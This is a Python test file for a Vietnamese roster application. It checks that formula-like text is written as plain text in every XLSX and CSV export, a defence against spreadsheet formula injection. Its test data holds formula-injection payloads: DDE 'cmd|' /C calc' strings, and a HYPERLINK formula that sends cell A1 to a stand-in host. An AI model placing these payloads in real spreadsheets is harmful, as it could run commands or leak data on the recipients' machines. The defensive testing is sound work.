"""Text that looks like a formula is written as text in every XLSX and CSV the app makes:
the roster book (Mẫu 7), the report of rejected import rows, the audit CSV, and the server's
province report. Read back with openpyxl and csv, never through our own reader."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from sotay_core.domain.spreadsheet import csv_cell, formula_like, keep_as_text
from sotay_desktop.usecases import roster

TODAY = dt.date(2026, 11, 22)
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+84 912 345 678",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist()
                       if n.startswith("xl/worksheets/sheet"))


def _texts(book: openpyxl.Workbook) -> dict[str, openpyxl.cell.cell.Cell]:
    return {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


def test_the_rules() -> None:
    assert all(formula_like(text) for text in HOSTILE)
    assert not formula_like("Nguyễn Văn An") and not formula_like(-5) and not formula_like(None)
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("An") == "An"
    assert csv_cell(-5) == -5 and csv_cell(-2.5) == -2.5     # real numbers stay numbers


def test_keep_as_text_leaves_numbers_and_the_visible_text() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([*HOSTILE, -5, 3.25, "Bình thường"])
    assert sheet["A1"].data_type == "f"                       # what openpyxl does unasked
    assert keep_as_text(book) == len(HOSTILE)
    out = io.BytesIO()
    book.save(out)
    back = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    row = [c for c in back[1]]
    assert [c.value for c in row[:len(HOSTILE)]] == HOSTILE  # shown exactly as typed
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:len(HOSTILE)])
    assert (row[-3].value, row[-3].data_type) == (-5, "n")
    assert (row[-2].value, row[-2].data_type) == (3.25, "n")
    assert not row[-1].quotePrefix
    assert "<f>" not in _sheet_xml(out.getvalue())


def test_roster_book_writes_names_and_notes_as_text(demo_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import select

    from sotay_desktop.db.tables import MemberRow
    from sotay_desktop.usecases.workspace import Workspace

    with demo_db.sessions.begin() as session:   # values as a hostile file or PC could leave
        rows = session.scalars(select(MemberRow).order_by(MemberRow.sort_key).limit(3)).all()
        rows[0].notes = HOSTILE[0]
        rows[1].hometown = HOSTILE[2]
        rows[2].service_background = HOSTILE[3]
    store = Workspace(demo_db, today=lambda: TODAY)
    target = roster.export_roster(store, tmp_path / "mau7.xlsx")
    data = target.read_bytes()
    assert "<f>" not in _sheet_xml(data)
    book = openpyxl.load_workbook(target)
    texts = _texts(book)
    for value in (HOSTILE[0], HOSTILE[2], HOSTILE[3]):
        assert value in texts, value
        assert texts[value].data_type == "s" and texts[value].quotePrefix
    sheet = book.active
    numbers = [sheet.cell(row, 1) for row in range(9, 12)]   # STT stays a number
    assert [c.value for c in numbers] == [1, 2, 3] and {c.data_type for c in numbers} == {"n"}


def test_rejected_rows_report_keeps_the_files_text(branch_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from sotay_desktop.services.roster_io import preview_import, rejected_report_xlsx

    db, _unit = branch_db
    source = tmp_path / "danh-sach.csv"
    # (a name like "=1+1" is not a name at all: the reader sets that row aside)
    source.write_text("STT;Họ và tên;Ngày sinh;Quê quán\n1;Lê Văn An;31/02/1970;=1+1\n"
                      "2;+Trần Văn Bình;xx;@SUM(A1)\n", encoding="utf-8-sig")
    with db.reads() as session:
        preview = preview_import(session, path=source, today=TODAY)
    assert preview.rejected
    data = rejected_report_xlsx(preview)
    assert "<f>" not in _sheet_xml(data)
    texts = _texts(openpyxl.load_workbook(io.BytesIO(data)))
    hostile = [v for v in texts if formula_like(v)]
    assert hostile and all(texts[v].data_type == "s" and texts[v].quotePrefix for v in hostile)


def test_audit_csv_quotes_formula_like_text(demo_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from sotay_desktop.services import audit

    with demo_db.sessions.begin() as session:
        session.info["actor"] = "=HYPERLINK(\"http://x.example\",\"An\")"
        audit.record(session, "export", entity="members", row_id="@x", detail="-1+2")
    target = tmp_path / "nhat-ky.csv"
    with demo_db.reads() as session:
        count = audit.export_csv(session, target)
    with target.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == count + 1
    last = next(r for r in rows[1:] if r[4] == "'@x")
    assert last[1] == "'=HYPERLINK(\"http://x.example\",\"An\")"
    assert last[5] == "'-1+2"
    assert last[7].isdigit()                                   # the sequence stays a number
    assert not any(formula_like(field) for row in rows for field in row)


def test_province_report_xlsx_keeps_pushed_text_as_text() -> None:
    from sync_server.queries import MonthRow, PartyNumbers
    from sync_server.reports import xlsx

    class Unit:
        name = "=cmd|' /C calc'!A0"

    numbers = PartyNumbers(unit=Unit(), on=TODAY, total=3,  # type: ignore[arg-type]
                           by_status=[("official", 3)], by_gender=[("male", 3)],
                           by_age=[("31–40", 3)], by_ethnicity=[("@Kinh", 2), ("-Tày", 1)])
    data = xlsx(numbers, [MonthRow(2026, 11, 1, 1, 3, 3, 1)])
    assert "<f>" not in _sheet_xml(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = _texts(book)
    for value in ("@Kinh", "-Tày"):
        assert texts[value].data_type == "s" and texts[value].quotePrefix
    title = book["Đảng số"]["A1"]
    assert title.value.endswith("=cmd|' /C calc'!A0 đến ngày 22/11/2026")
    counts = [c for c in book["Đảng số"]["B"] if isinstance(c.value, int)]
    assert counts and all(c.data_type == "n" for c in counts)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_field_opens_as_the_text_it_is(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(text), csv_cell(-7)])
    field, number = next(csv.reader(io.StringIO(out.getvalue())))
    assert field == "'" + text and number == "-7"
